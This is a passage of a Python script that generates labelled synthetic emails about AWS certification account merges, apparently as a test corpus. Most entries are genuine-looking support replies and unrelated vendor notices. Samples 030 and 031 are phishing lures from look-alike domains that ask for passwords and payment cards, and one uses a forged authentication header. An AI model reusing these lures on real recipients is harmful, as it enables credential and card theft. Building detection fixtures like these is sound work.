         lang="en", frm=addr(*AWS_FORM), to=P(KEVIN), subject=FORM_SUBJ % C10, date=d, body=body, new=new,
         rx=rx_none(snd, d, KEVIN[1]) + dkim_hdrs(snd, d), extra=with_trailer(snd))

    # 025 -- chaser after hold (no Authentication-Results, CRLF) ------------
    d = D("2024-06-24 10:05:31")
    snd = sender_amazon(d)
    new = """Hello Kevin,

I hope your exam on 12 June went well.

I am following up on this case because we have not heard back from you since then. Your result is now showing, so there is nothing stopping us from continuing - but we still need one thing from you: the e-mail address you use to sign in to AWS08064112. We could not match the address you gave us earlier to that profile.

If we do not hear from you within 7 days, case %s will be closed automatically. You can still reply afterwards and the case will reopen.

Kind regards,
Niamh D.
AWS Training and Certification Customer Support
""" % C10
    body = tpart(new, "plain", "us-ascii", "7bit")
    emit(25, "form-chaser-need-signin-email-noauth", kind="support_reply", case=C10, ids=["AWS08064112"],
         sv=None, lang="en", frm=addr(*AWS_FORM), to=P(KEVIN), subject=FORM_SUBJ % C10, date=d, body=body,
         new=new, rx=rx_none(snd, d, KEVIN[1]) + dkim_hdrs(snd, d), extra=with_trailer(snd), linesep="\r\n")

    # 026 -- non-native: forwarded to concerned team ------------------------
    d = D("2023-03-14 07:12:09")
    snd = sender_amazon(d)
    new = """Dear Priya,

Greetings from AWS Training and Certification!

Thank you for writing to us. Kindly be informed that we have forwarded your request to our concerned team for further verification of the candidate profiles mentioned by you. Request you to kindly wait for 2-3 business days, we will get back to you with an update at the earliest.

We appreciate your patience and co-operation in this regard.

Thanks & Regards,
Sandeep K
AWS Training and Certification Support
"""
    quoted = """
On Mon, 13 Mar 2023 at 22:40, Priya Raghavan <priya.raghavan91@gmail.com> wrote:
> Hi team,
> I have 2 certification profiles, AWS05129984 (old company mail) and
> AWS11402276 (personal). Please merge them into the personal one.
> Regards, Priya
"""
    body = alternative(tpart(new + quoted, "plain", "utf-8", "quoted-printable"),
                       tpart(aws_html(new, quoted), "html", "utf-8", "quoted-printable"), "java", d)
    emit(26, "form-kindly-forwarded-to-concerned-team", kind="support_reply", case=C11, ids=[], sv=True,
         lang="en", frm=addr(*AWS_FORM), to=PRIYA[1], subject=FORM_SUBJ % C11, date=d, body=body, new=new,
         rx=rx_gmail(snd, d, PRIYA[1]) + dkim_hdrs(snd, d), extra=with_trailer(snd))

    # 027 -- non-native: legal names differ, asks details --------------------
    d = D("2023-03-16 06:35:44")
    snd = sender_amazon(d)
    new = """Dear Priya,

Greetings of the day!

As per our verification, we could see that both the profiles are having different legal names. Profile AWS05129984 is registered under name "Priya R" and profile AWS11402276 is registered under name "Priya Raghavan".

In order to proceed further, request you to please share below details:
1) Your full name as per the Government ID which you are using for the exams
2) Date of exams attempted from each profile (approximate date is also fine)
3) Registered email ID of profile AWS05129984

Once we receive the details, we will be able to proceed further with your request.

Thanks & Regards,
Sandeep K
AWS Training and Certification Support
"""
    body = tpart(new, "plain", "utf-8", "base64")
    emit(27, "form-names-differ-share-details", kind="support_reply", case=C11, ids=["AWS05129984", "AWS11402276"],
         sv=True, lang="en", frm=addr(*AWS_FORM), to=PRIYA[1], subject=FORM_SUBJ % C11, date=d, body=body,
         new=new, rx=rx_gmail(snd, d, PRIYA[1]) + dkim_hdrs(snd, d), extra=with_trailer(snd))

    # 028 -- non-native: consent for consolidation (a real request) ----------
    d = D("2023-03-20 08:02:17")
    snd = sender_amazon(d)
    new = """Dear Priya,

Thank you for sharing the requested details, the same has been verified from our end.

Please find below the details of the consolidation:

Profile which will be deactivated : AWS05129984 (priya.r@infovista-tech.in)
Profile which will be retained : AWS11402276 (priya.raghavan91@gmail.com)

Post consolidation all the certifications, exam history and benefits of profile AWS05129984 will be reflected under profile AWS11402276 and the profile AWS05129984 will not be accessible anymore. Kindly note this action is irreversible.

Kindly revert back with your consent on the above so that we can proceed further.

Thanks & Regards,
Sandeep K
AWS Training and Certification Support
"""
    body = alternative(tpart(new, "plain", "utf-8", "quoted-printable"),
                       tpart(aws_html(new), "html", "utf-8", "base64"), "java", d)
    emit(28, "form-revert-with-consent-consolidation", kind="merge_confirmation_requested", case=C11,
         ids=["AWS05129984", "AWS11402276"], sv=True, lang="en", frm=addr(*AWS_FORM), to=PRIYA[1],
         subject=FORM_SUBJ % C11, date=d, body=body, new=new,
         rx=rx_gmail(snd, d, PRIYA[1]) + dkim_hdrs(snd, d), extra=with_trailer(snd))

    # 029 -- non-native: thanks for consent, raised internally ---------------
    d = D("2023-03-21 05:51:40")
    snd = sender_amazon(d)
    new = """Dear Priya,

Thank you for your consent.

We have raised the request with our internal team and the same is under process. Usually it takes 3-5 business days for completion. We will keep you posted once we receive any update from the team.

Request you to not register for any exam till then.

Thanks & Regards,
Sandeep K
AWS Training and Certification Support
"""
    quoted = """
On Mon, 20 Mar 2023 at 19:15, Priya Raghavan <priya.raghavan91@gmail.com> wrote:
> Hi Sandeep,
> Yes, I give my consent. Please go ahead.
> Priya
>
> On Mon, 20 Mar 2023 at 13:32, Amazon Web Services <aws-cs-trainingcertification-form@amazon.com> wrote:
>> Dear Priya,
>>
>> Profile which will be deactivated : AWS05129984 (priya.r@infovista-tech.in)
>> Profile which will be retained : AWS11402276 (priya.raghavan91@gmail.com)
>>
>> Kindly revert back with your consent on the above so that we can proceed further.
"""
    body = tpart(new + quoted, "plain", "utf-8", "quoted-printable")
    emit(29, "form-thanks-consent-raised-internally", kind="support_reply", case=C11, ids=[], sv=True, lang="en",
         frm=addr(*AWS_FORM), to=PRIYA[1], subject=FORM_SUBJ % C11, date=d, body=body, new=new,
         rx=rx_gmail(snd, d, PRIYA[1]) + dkim_hdrs(snd, d), extra=with_trailer(snd))

    # 030 -- phishing about the merge from a look-alike domain ---------------
    d = D("2024-09-23 02:17:50")
    snd = sender_generic(d, "aws-trainingcertification-help.com", "mail.aws-trainingcertification-help.com",
                         "185.234.72.19", "bounce@aws-trainingcertification-help.com",
                         dkim_d="aws-trainingcertification-help.com", sel="default", policy="NONE")
    new = """Dear Candidate,

Your request to merge your AWS Certification accounts is currently being processed (Case ID %s).

Our records show that identity verification for account AWS06642290 is incomplete. To prevent your certifications from being permanently removed during the merge, you must verify your identity within 24 hours.

Please sign in using the secure link below and provide your Pearson VUE password and the payment card used for your most recent exam:

https://aws-trainingcertification-help.com/verify?case=%s

If verification is not completed, your merge request will be cancelled and both accounts may be suspended.

AWS Training & Certification Support Team
""" % (PHISH30, PHISH30)
    html = "<html><body style=\"font-family:Arial\">" + text_to_html(new).replace(
        "https://aws-trainingcertification-help.com/verify?case=%s" % PHISH30,
        '<a href="https://aws-trainingcertification-help.com/verify?case=%s" style="background:#ff9900;color:#000;padding:8px 16px">Verify now</a>' % PHISH30) + "</body></html>"
    body = alternative(tpart(new, "plain", "utf-8", "quoted-printable"), tpart(html, "html", "utf-8", "quoted-printable"),
                       "other", d)
    emit(30, "phish-lookalike-verify-identity-merge", kind="support_reply", case=PHISH30, ids=["AWS06642290"],
         sv=False, lang="en", frm=addr("AWS Training & Certification", "support@aws-trainingcertification-help.com"),
         to=WEI[1], subject="[Case %s] Action required: verify identity to continue your account merge" % PHISH30,
         date=d, body=body, new=new, rx=rx_yahoo(snd, d, WEI[1]) + dkim_hdrs(snd, d),
         msgid="<%s@aws-trainingcertification-help.com>" % uuid.UUID(int=R.getrandbits(128)),
         extra=[("X-Mailer", "PHPMailer 6.8.1 (https://github.com/PHPMailer/PHPMailer)")])


# ===========================================================================
# Block 4: 031-040
# ===========================================================================
PHISH31 = "14820573316"
C3BILL_OPEN = D("2026-02-02 21:09:55"); C3BILL = case15(C3BILL_OPEN, "00871")
SELLER = "6021447983"


def block4():
    # 031 -- spoofed amazon.com confirmation request, dmarc=fail on top -------
    d = D("2025-06-01 03:44:26")
    snd = sender_generic(d, "amazon.com", "vps-2291.hostkey-mailer.net", "45.153.231.87",
                         "noreply@hostkey-mailer.net", dkim_d=None, spf="pass", dmarc="fail", policy="QUARANTINE")
    forged = ("amazon.com;\n       dkim=pass header.d=amazon.com header.s=pnu5ibyiztslgmwejgmjkglbpqunr3fg;\n"
              "       spf=pass smtp.mailfrom=amazonses.com;\n       dmarc=pass header.from=amazon.com")
    new = """Hello,

We are ready to merge your AWS Certification accounts. Please review the details below.

Account to be merged: AWS-19920411
Account to be kept: AWS12093358

Once merged, this action cannot be undone. To confirm the merge, please click the button below and sign in with your AWS Certification credentials within 48 hours. Requests that are not confirmed will be cancelled automatically.

CONFIRM MERGE: https://aws-certmetrics-verify.net/merge/confirm?id=7731a9

Thank you,
AWS Training and Certification
"""
    html = """<html><body style="font-family:Arial;font-size:14px">
<p><img src="https://aws-certmetrics-verify.net/img/aws.png" width="70"></p>
<p>Hello,</p>
<p>We are ready to merge your AWS Certification accounts. Please review the details below.</p>
<table border="1" cellpadding="6" style="border-collapse:collapse"><tr><td>Account to be merged</td><td>AWS-19920411</td></tr>
<tr><td>Account to be kept</td><td>AWS12093358</td></tr></table>
<p>Once merged, this action cannot be undone. To confirm the merge, please click the button below and sign in with your AWS Certification credentials within 48 hours. Requests that are not confirmed will be cancelled automatically.</p>
<p><a href="https://aws-certmetrics-verify.net/merge/confirm?id=7731a9" style="background:#ff9900;color:#fff;padding:10px 20px;text-decoration:none">CONFIRM MERGE</a></p>
<p>Thank you,<br>AWS Training and Certification</p></body></html>
"""
    body = alternative(tpart(new, "plain", "utf-8", "7bit"), tpart(html, "html", "utf-8", "base64"), "other", d)
    emit(31, "phish-spoofed-amazon-confirm-merge-dmarc-fail", kind="merge_confirmation_requested", case=PHISH31,
         ids=["AWS12093358", "AWS19920411"], sv=False, lang="en", frm=addr(*AWS_FORM), to=DAN[1],
         subject="RE:[CASE %s] Confirm your AWS Certification account merge" % PHISH31, date=d, body=body,
         new=new, rx=rx_gmail(snd, d, DAN[1]), pre=[("Authentication-Results", forged)],
         msgid="<%s.%d@vps-2291.hostkey-mailer.net>" % (rhex(16), int(d.timestamp())))

    # 032 -- unrelated AWS billing case (genuine amazon.com) ------------------
    d = D("2026-02-03 15:26:38")
    snd = sender_amazon(d)
    new = """Hello Rahul,

Thank you for contacting AWS Billing and Accounts.

I reviewed the charges on account 482109375561 for January 2026. The $63.18 you asked about comes from two NAT Gateways in us-east-1 (ap-south-1 is not involved) that were left running after your lab environment was deleted. NAT Gateways are billed per hour and per GB processed, even when no instances use them.

I have deleted nothing on your behalf. If you no longer need them, you can remove them from the VPC console. As a one-time courtesy, I have submitted a request to credit the January NAT Gateway charges; you will see it on your next invoice if approved.

Best regards,
Farah N.
Amazon Web Services
""" + console_footer(C3BILL)
    full = new + console_links(C3BILL)
    body = tpart(full, "plain", "utf-8", "quoted-printable")
    emit(32, "console-billing-case-nat-gateway", kind="unrelated", case=C3BILL, ids=[], sv=True, lang="en",
         frm=addr(*AWS_CONSOLE), to=RAHUL[1],
         subject="RE:[CASE %s] Unexpected charges on my account in January" % C3BILL, date=d, body=body,
         new=full, rx=rx_outlook(snd, d, RAHUL[1]) + dkim_hdrs(snd, d), extra=with_trailer(snd))

    # 033 -- CertMetrics survey (authentic, not AWS) -----------------------
    d = D("2022-10-03 16:00:21")
    snd = sender_generic(d, "certmetrics.com", "mail-by2.certmetrics.com", "40.107.220.51",
                         "do-not-reply@certmetrics.com", dkim_d="certmetrics.com", sel="selector1", policy="REJECT")
    new = """AWS Certification wants to hear from you

Hello Sofia Marquez,

Candidate ID: AWS07719320

You recently earned an AWS Certification. Congratulations! Please take a few minutes to tell us about your experience preparing for and taking the exam. Your answers help AWS Training and Certification improve exams and training for candidates like you.

Take the survey: https://www.certmetrics.com/amazon/candidate/survey.aspx?sid=8d31f0a2c7b94e6e9f0e4d2b1a76c5e3

The survey will close on October 31, 2022.

Thank you,
AWS Training and Certification

This message was sent by CertMetrics on behalf of AWS Training and Certification. Please do not reply to this e-mail.
"""
    body = alternative(tpart(new, "plain", "us-ascii", "7bit"),
                       tpart("<html><body>" + text_to_html(new) + "</body></html>", "html", "us-ascii", "7bit"),
                       "other", d)
    emit(33, "certmetrics-wants-to-hear-from-you", kind="unrelated", case=None, ids=["AWS07719320"], sv=False,
         lang="en", frm=addr("AWS Certification", "do-not-reply@certmetrics.com"), to=SOFIA[1],
         subject="AWS Certification wants to hear from you", date=d, body=body, new=new,
         rx=rx_gmail(snd, d, SOFIA[1]) + dkim_hdrs(snd, d),
         msgid="<%s@certmetrics.com>" % uuid.UUID(int=R.getrandbits(128)))

    # 034 -- Pearson VUE appointment confirmation ----------------------------
    d = D("2025-03-12 11:19:47")
    snd = sender_generic(d, "pearson.com", "mx0b-00273301.pphosted.com", "148.163.151.12",
                         "pearsonvuecustomerservice@pearson.com", dkim_d="pearson.com", sel="selector2", policy="REJECT")
    new = """Dear Tom Becker,

Thank you for scheduling your exam with Pearson VUE. This e-mail confirms your appointment.

Exam: SAP-C02: AWS Certified Solutions Architect - Professional
Date: Wednesday, June 18, 2025
Time: 10:00 AM CEST
Location: OnVUE online proctored exam
Registration ID: 512887431
AWS Candidate ID: AWS03318842

Before exam day, run the system test on the computer you will use and make sure your ID matches the name on your profile exactly. You may check in up to 30 minutes before your appointment.

To reschedule or cancel, sign in to your account at least 24 hours before your appointment: https://home.pearsonvue.com/aws

Sincerely,
Pearson VUE
"""
    body = alternative(tpart(new, "plain", "iso-8859-1", "quoted-printable"),
                       tpart("<html><body style=\"font-family:Verdana\">" + text_to_html(new) + "</body></html>",
                             "html", "iso-8859-1", "quoted-printable"), "outlook", d)
    emit(34, "pearson-vue-appointment-confirmation", kind="unrelated", case=None, ids=["AWS03318842"], sv=False,
         lang="en", frm=addr("Pearson VUE", "pearsonvuecustomerservice@pearson.com"), to=P(TOM),
         subject="Pearson VUE Confirmation of Booking", date=d, body=body, new=new,
         rx=rx_outlook(snd, d, TOM[1], corporate=True) + dkim_hdrs(snd, d),
         msgid="<%s@pearson.com>" % rhex(24))

    # 035 -- Credly badge expiry reminder (genuine Credly, unrelated) ------
    d = D("2025-09-02 13:05:00")
    snd = sender_credly(d)
    new = """Hi Daniel,

Your badge AWS Certified Developer - Associate, issued by Amazon Web Services Training and Certification, will expire on December 1, 2025.

To keep your badge active, please follow the recertification steps from the issuer before the expiration date. Once an issuer recertifies you, a new badge will be issued to your account.

View badge: https://www.credly.com/badges/5a1e7c93-0b2f-4d86-9e31-7c44a0f8d217

The Credly Team
Credly, Inc. | 1250 Broadway, 24th Floor, New York, NY 10001
"""
    html = "<html><body style=\"font-family:Helvetica\">" + text_to_html(new) + "</body></html>"
    body = alternative(tpart(new, "plain", "utf-8", "quoted-printable"), tpart(html, "html", "utf-8", "quoted-printable"),
                       "other", d)
    emit(35, "credly-badge-expiry-reminder", kind="unrelated", case=None, ids=[], sv=True, lang="en",
         frm=addr("Credly", "admin@credly.com"), to=DAN[1],
         subject="Your AWS Certified Developer - Associate badge expires in 90 days", date=d, body=body, new=new,
         rx=rx_gmail(snd, d, DAN[1]) + dkim_hdrs(snd, d), extra=with_trailer(snd),
         msgid="<%s@geopod-ismtpd-%d>" % (rb64(22).replace("/", "x"), R.randint(1, 40)))

    # 036 -- GitHub "merged" notification -------------------------------
    d = D("2025-06-02 09:31:17")
    snd = sender_generic(d, "github.com", "out-21.smtp.github.com", "192.30.252.204",
                         "noreply@github.com", dkim_d="github.com", sel="pf2023", policy="REJECT")
    new = """Merged #412 into main.

--
Reply to this email directly, view it on GitHub:
https://github.com/contoso-logistics/infra-modules/pull/412#event-17734412901
You are receiving this because you authored the thread.
"""
    html = """<p></p><p>Merged <a class="issue-link js-issue-link" href="https://github.com/contoso-logistics/infra-modules/pull/412">#412</a> into main.</p>
<p style="font-size:small;-webkit-text-size-adjust:none;color:#666;">&mdash;<br />Reply to this email directly, <a href="https://github.com/contoso-logistics/infra-modules/pull/412#event-17734412901">view it on GitHub</a>.<br />You are receiving this because you authored the thread.</p>
"""
    body = alternative(tpart(new, "plain", "utf-8", "7bit"), tpart(html, "html", "utf-8", "7bit"), "other", d)
    emit(36, "github-pr-merged-account-modules", kind="unrelated", case=None, ids=[], sv=False, lang="en",
         frm=addr("Daniel Hughes", "notifications@github.com"), to=addr("contoso-logistics/infra-modules", "infra-modules@noreply.github.com"),
         subject="Re: [contoso-logistics/infra-modules] Merge account modules into single org baseline (PR #412)",
         date=d, body=body, new=new, rx=rx_gmail(snd, d, DAN[1]) + dkim_hdrs(snd, d),
         msgid="<contoso-logistics/infra-modules/pull/412/issue_event/17734412901@github.com>",
         extra=[("In-Reply-To", "<contoso-logistics/infra-modules/pull/412@github.com>"),
                ("References", "<contoso-logistics/infra-modules/pull/412@github.com>"),
                ("List-ID", "contoso-logistics/infra-modules <infra-modules.contoso-logistics.github.com>"),
                ("X-GitHub-Reason", "author")])

    # 037 -- Amazon Seller Central case, same subject style --------------
    d = D("2023-11-08 22:41:03")
    snd = sender_amazon(d)
    new = """Hello,

Thank you for contacting Amazon Selling Partner Support.

I understand that your listing for ASIN B0C7XK2M4Q was suppressed after you merged two variation families. I have checked the listing and it is suppressed because the main image does not meet our image requirements (the background is not pure white).

To fix this, upload a compliant main image in Manage Inventory > Edit > Images. The listing should become active within 15 minutes after the new image is processed.

We hope this information is helpful. Please let us know if you have any other questions.

Was this e-mail helpful? Yes / No

Thank you for selling with Amazon,
Marisol
Amazon Selling Partner Support
https://sellercentral.amazon.com/cu/case-dashboard/view-case?caseID=%s
""" % SELLER
    body = tpart(new, "plain", "utf-8", "quoted-printable")
    emit(37, "seller-central-case-listing-suppressed", kind="unrelated", case=SELLER, ids=[], sv=True, lang="en",
         frm=addr("Amazon Selling Partner Support", "sellercentral-support@amazon.com"), to=SOFIA[1],
         subject="RE:[CASE %s] Listing suppressed after merging variation families" % SELLER, date=d, body=body,
         new=new, rx=rx_gmail(snd, d, SOFIA[1]) + dkim_hdrs(snd, d), extra=with_trailer(snd))

    # 038 -- form acknowledgement, HTML only ----------------------------
    d = C7_OPEN + dt.timedelta(seconds=11)
    snd = sender_amazon(d)
    new = """AWS Training and Certification

We've received your request

Hi Wei Zhang,

Thanks for reaching out. Your inquiry has been logged with case ID %s. Our team typically responds within one business day.

Need to add something? Reply to this e-mail and your message will be added to the same case. Please don't submit the form again for the same issue - duplicate cases can slow down our response.

While you wait, you may find an answer in the AWS Certification FAQ: https://aws.amazon.com/certification/faqs/

AWS Training and Certification
""" % C7
    html = """<!DOCTYPE html><html><head><meta charset="UTF-8"></head>
<body style="margin:0;padding:0;background:#ffffff;font-family:'Amazon Ember',Helvetica,Arial,sans-serif">
<div style="max-width:600px;margin:0 auto">
<div style="background:#232f3e;color:#ffffff;padding:18px 24px;font-size:16px;font-weight:bold">AWS Training and Certification</div>
<div style="padding:24px;font-size:14px;line-height:1.6;color:#232f3e">
<h1 style="font-size:22px;margin:0 0 16px">We&#39;ve received your request</h1>
<p>Hi Wei Zhang,</p>
<p>Thanks for reaching out. Your inquiry has been logged with case ID <strong>%s</strong>. Our team typically responds within one business day.</p>
<p>Need to add something? Reply to this e-mail and your message will be added to the same case. Please don&#39;t submit the form again for the same issue &ndash; duplicate cases can slow down our response.</p>
<p>While you wait, you may find an answer in the <a href="https://aws.amazon.com/certification/faqs/">AWS Certification FAQ</a>.</p>
<p>AWS Training and Certification</p>
</div></div></body></html>
""" % C7
    body = tpart(html, "html", "utf-8", "quoted-printable")
    emit(38, "form-ack-html-only", kind="case_created", case=C7, ids=[], sv=True, lang="en",
         frm=addr(*AWS_FORM), to=WEI[1],
         subject="[CASE %s] [AWS Training and Certification Form Submission] - account-assistance" % C7,
         date=d, body=body, new=new, rx=rx_yahoo(snd, d, WEI[1]) + dkim_hdrs(snd, d), extra=with_trailer(snd))

    # 039 -- Japanese form acknowledgement (ISO-2022-JP) --------------------
    d = C2_OPEN + dt.timedelta(seconds=9)
    snd = sender_amazon(d)
    new = """佐藤 美咲 様

AWS トレーニングと認定へお問い合わせいただき、ありがとうございます。
本メールは、お問い合わせを受け付けたことをお知らせする自動送信メールです。

ケース ID: %s
件名: [AWS Training and Certification Form Submission] - account-assistance

担当者が内容を確認のうえ、原則として 24 時間以内にご連絡いたします。
追加の情報がございましたら、件名のケース ID を変更せずに本メールへご返信ください。
同じ内容で新たにお問い合わせいただきますと、回答までにお時間をいただく場合がございますのでご注意ください。

AWS トレーニングと認定 カスタマーサポート
""" % C2
    body = tpart(new, "plain", "iso-2022-jp", "7bit")
    emit(39, "ja-form-ack-received", kind="case_created", case=C2, ids=[], sv=True, lang="ja",
         frm=addr(*AWS_FORM), to=P(MISAKI, "iso-2022-jp"),
         subject="[CASE %s] お問い合わせを受け付けました" % C2, subj_charset="iso-2022-jp", date=d, body=body,
         new=new, rx=rx_jp("nifty", snd, d, MISAKI[1]) + dkim_hdrs(snd, d), extra=with_trailer(snd))

    # 040 -- Japanese hand-over to another agent ----------------------------
    d = D("2025-08-07 04:52:26")
    snd = sender_amazon(d)
    new = """佐藤 美咲 様

いつも大変お世話になっております。
AWS トレーニングと認定 カスタマーサポートの高橋と申します。

前任の小林が休暇に入りましたため、本日より本件は私が引き継いで担当させていただきます。
試験のご予約がない旨のご連絡をいただき、ありがとうございました。

現在、認定アカウントの管理チームにて両アカウントの登録内容を確認しております。確認が取れ次第、統合の内容を記載したご確認のメールをお送りいたしますので、今しばらくお待ちいただけますでしょうか。

ご不明な点がございましたら、お気軽に本メールへご返信ください。

高橋 大輔
AWS トレーニングと認定 カスタマーサポート
"""
    quoted = """
2025年8月5日(火) 13:30 佐藤 美咲 <misaki.sato@nifty.com>:
> 小林様
>
> ご連絡ありがとうございます。
> AWS08816403、AWS13370952 ともに現在試験の予約はありません。
> よろしくお願いいたします。
>
> 佐藤
"""
    body = alternative(tpart(new + quoted, "plain", "utf-8", "base64"),
                       tpart(aws_html(new, quoted, lang="ja"), "html", "utf-8", "base64"), "java", d)
    emit(40, "ja-agent-handover-checking", kind="support_reply", case=C2, ids=[], sv=True, lang="ja",
         frm=addr(*AWS_FORM), to=P(MISAKI), subject=FORM_SUBJ % C2, date=d, body=body, new=new,
         rx=rx_jp("nifty", snd, d, MISAKI[1]) + dkim_hdrs(snd, d), extra=with_trailer(snd))


# ===========================================================================
# Block 5: 041-050
# ===========================================================================
def block5():
    # 041 -- Japanese: direction was reversed, corrected mail will follow ----
    d = D("2025-08-12 01:37:58")
    snd = sender_amazon(d)
    new = """佐藤 美咲 様

お世話になっております。AWS トレーニングと認定 カスタマーサポートの高橋でございます。

ご指摘いただき、誠にありがとうございます。
先日お送りしたご確認のメールにおいて、統合元と統合先のアカウントが逆に記載されておりました。ご迷惑をおかけし、大変申し訳ございません。

正しくは、AWS08816403 を統合元、AWS13370952 を統合先（統合後も残るアカウント）とする内容でございます。
現時点では、いずれのアカウントにも変更は加えておりませんのでご安心ください。

訂正した内容にて、改めてご確認のメールを別途お送りいたします。お手数をおかけいたしますが、そちらのメールが届きましたら、内容をご確認のうえご返信いただけますと幸いです。

引き続きどうぞよろしくお願いいたします。

高橋 大輔
AWS トレーニングと認定 カスタマーサポート
"""
    quoted = """
-----Original Message-----
From: 佐藤 美咲 <misaki.sato@nifty.com>
Sent: Monday, August 11, 2025 9:20 PM
To: Amazon Web Services <aws-cs-trainingcertification-form@amazon.com>
Subject: Re: RE:[CASE %s] [AWS Training and Certification Form Submission] - account-assistance

高橋様

確認メールの内容が逆になっているようです。
残したいのは個人用の AWS13370952 の方です。
AWS08816403（会社用）を統合してください。

佐藤
""" % C2
    body = tpart(new + quoted, "plain", "shift_jis", "quoted-printable")
    emit(41, "ja-reversed-direction-corrected-mail-to-follow", kind="support_reply", case=C2,
         ids=["AWS08816403", "AWS13370952"], sv=True, lang="ja", frm=addr(*AWS_FORM), to=P(MISAKI, "iso-2022-jp"),
         subject=FORM_SUBJ % C2, date=d, body=body, new=new,
         rx=rx_jp("nifty", snd, d, MISAKI[1]) + dkim_hdrs(snd, d), extra=with_trailer(snd))

    # 042 -- answers a voucher question, not about the merge itself ----------
    d = D("2025-03-13 15:08:12")
    snd = sender_amazon(d)
    new = """Hello Tom,

Thank you for your follow-up question.

Regarding the 50% exam discount voucher: the voucher issued to AWS03318842 after your recertification is valid until 31 August 2025. Benefits move together with the certifications, so once your accounts have been combined it will appear under Benefits in AWS12880017. There is no need to use it beforehand, and I'm afraid I am not able to extend its expiry date.

Your account request itself is still being reviewed by our Certification team; I will update you separately on that.

Kind regards,
Bartosz W.
AWS Training and Certification Customer Support
"""
    quoted = """
-----Original Message-----
From: Tom Becker <tom.becker@norrland-freight.de>
Sent: Wednesday, March 12, 2025 12:02 PM
To: Amazon Web Services <aws-cs-trainingcertification-form@amazon.com>
Subject: RE:[CASE %s] [AWS Training and Certification Form Submission] - account-assistance

Hi,

Quick question while you look into this: I have a 50%% voucher on the old account. Will I lose it when the accounts are merged, or should I use it first? I just booked SAP-C02 for June with the old login.

Thanks
Tom
""" % C6
    body = alternative(tpart(new + quoted, "plain", "utf-8", "quoted-printable"),
                       tpart(aws_html(new, quoted), "html", "utf-8", "quoted-printable"), "java", d)
    emit(42, "form-answers-voucher-question", kind="support_reply", case=C6, ids=["AWS03318842", "AWS12880017"],
         sv=True, lang="en", frm=addr(*AWS_FORM), to=P(TOM), subject=FORM_SUBJ % C6, date=d, body=body, new=new,
         rx=rx_outlook(snd, d, TOM[1], corporate=True) + dkim_hdrs(snd, d), extra=with_trailer(snd))

    # 043 -- Japanese: asks sign-in mails; cp932 bytes labelled Shift_JIS -----
    d = D("2025-12-02 02:14:51")
    snd = sender_amazon(d)
    new = """鈴木 亜希子 様

この度は AWS トレーニングと認定 カスタマーサポートへお問い合わせいただき、誠にありがとうございます。
担当の森でございます。

アカウント統合のご依頼につきまして、ご本人様確認のため、恐れ入りますが以下の情報をお知らせいただけますでしょうか。

① 各アカウントのサインイン用メールアドレス
　（AWS07455103 および AWS12239980 それぞれ）
② 各アカウントに登録されている氏名（ローマ字表記）
③ 統合後に残したいアカウントの受験者 ID

いただいた情報をもとに、担当チームにて確認を進めてまいります。
お手数をおかけいたしますが、何卒よろしくお願いいたします。

森 由美
AWS トレーニングと認定 カスタマーサポート
"""
    body = tpart(new, "plain", "cp932", "8bit", declared="Shift_JIS")
    emit(43, "ja-asks-signin-emails-cp932-labelled-sjis", kind="support_reply", case=C12,
         ids=["AWS07455103", "AWS12239980"], sv=True, lang="ja", frm=addr(*AWS_FORM), to=P(SUZUKI, "iso-2022-jp"),
         subject=FORM_SUBJ % C12, date=d, body=body, new=new,
         rx=rx_jp("sonet", snd, d, SUZUKI[1]) + dkim_hdrs(snd, d), extra=with_trailer(snd))

    # 044 -- Japanese chaser -----------------------------------------------
    d = D("2025-12-09 03:00:27")
    snd = sender_amazon(d)
    new = """鈴木 亜希子 様

お世話になっております。AWS トレーニングと認定 カスタマーサポートの森でございます。

12月2日にお送りしたメールにつきまして、その後いかがでしょうか。
アカウント統合の手続きを進めるにあたり、各アカウントのサインイン用メールアドレス、ご登録の氏名、および残したいアカウントの受験者 ID のご連絡をお待ちしております。

お忙しいところ恐縮ですが、本メールへのご返信にてお知らせいただけますと幸いです。
なお、本日より 7 日以内にご返信をいただけない場合、本ケースは一旦クローズさせていただきます。クローズ後も、本メールにご返信いただければケースは再開されます。

何卒よろしくお願いいたします。

森 由美
AWS トレーニングと認定 カスタマーサポート
"""
    body = tpart(new, "plain", "iso-2022-jp", "7bit")
    emit(44, "ja-chaser-awaiting-reply", kind="support_reply", case=C12, ids=[], sv=True, lang="ja",
         frm=addr(*AWS_FORM), to=P(SUZUKI, "iso-2022-jp"),
         subject="RE:[CASE %s] 【ご返信のお願い】アカウント統合に必要な情報について" % C12,
         subj_charset="iso-2022-jp", date=d, body=body, new=new,
         rx=rx_jp("sonet", snd, d, SUZUKI[1]) + dkim_hdrs(snd, d), extra=with_trailer(snd))

    # 045 -- Japanese closure for no reply, with survey (HTML only) ---------
    d = D("2025-12-17 03:05:40")
    snd = sender_amazon(d)
    new = """鈴木 亜希子 様

ケース ID %s につきまして、一定期間ご返信が確認できなかったため、本ケースをクローズいたしました。

引き続きサポートが必要な場合は、本メールにご返信いただくことでケースを再開できます。

今回のサポートについて、簡単なアンケートにご協力ください。
問題は解決しましたか？　はい ／ いいえ
担当者の対応を 5 段階で評価してください。

AWS トレーニングと認定 カスタマーサポート
""" % C12
    html = """<!DOCTYPE html><html lang="ja"><head><meta charset="UTF-8"><title>ケースクローズのお知らせ</title></head>
<body style="margin:0;background:#f2f3f3;font-family:'Hiragino Kaku Gothic ProN',Meiryo,sans-serif">
<div style="max-width:600px;margin:0 auto;background:#fff">
<div style="background:#232f3e;color:#fff;padding:16px 24px">AWS トレーニングと認定</div>
<div style="padding:24px;font-size:14px;line-height:1.8;color:#16191f">
<p>鈴木 亜希子 様</p>
<p>ケース ID %s につきまして、一定期間ご返信が確認できなかったため、本ケースをクローズいたしました。</p>
<p>引き続きサポートが必要な場合は、本メールにご返信いただくことでケースを再開できます。</p>
<hr style="border:none;border-top:1px solid #eaeded">
<p><b>今回のサポートについて、簡単なアンケートにご協力ください。</b></p>
<p>問題は解決しましたか？<br>
<a href="https://survey.support.aws.a2z.com/s?c=%s&amp;l=ja&amp;r=1" style="display:inline-block;background:#ff9900;color:#16191f;padding:6px 20px;text-decoration:none">はい</a>
<a href="https://survey.support.aws.a2z.com/s?c=%s&amp;l=ja&amp;r=0" style="display:inline-block;background:#eaeded;color:#16191f;padding:6px 20px;text-decoration:none">いいえ</a></p>
<p>担当者の対応を 5 段階で評価してください。<br>%s</p>
<p>AWS トレーニングと認定 カスタマーサポート</p>
</div></div></body></html>
""" % (C12, C12, C12, "".join('<a href="https://survey.support.aws.a2z.com/s?c=%s&amp;l=ja&amp;s=%d">&#9733;</a>' % (C12, i) for i in range(1, 6)))
    body = tpart(html, "html", "utf-8", "base64")
